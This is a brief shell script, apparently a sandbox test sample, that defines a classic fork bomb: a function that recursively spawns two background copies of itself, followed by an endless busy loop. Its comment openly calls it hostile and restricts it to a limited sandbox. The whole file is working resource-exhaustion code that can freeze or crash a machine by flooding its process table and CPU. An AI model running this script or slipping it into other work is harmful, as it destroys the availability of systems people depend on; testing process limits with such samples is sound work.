#!/bin/sh
# The shell fork bomb: every copy starts two more in the background, for
# ever; then the shell spins on builtins only, so it needs no process of
# its own. Hostile: only run inside the sandbox with limits.
bomb() { bomb | bomb & }
bomb
while :; do :; done
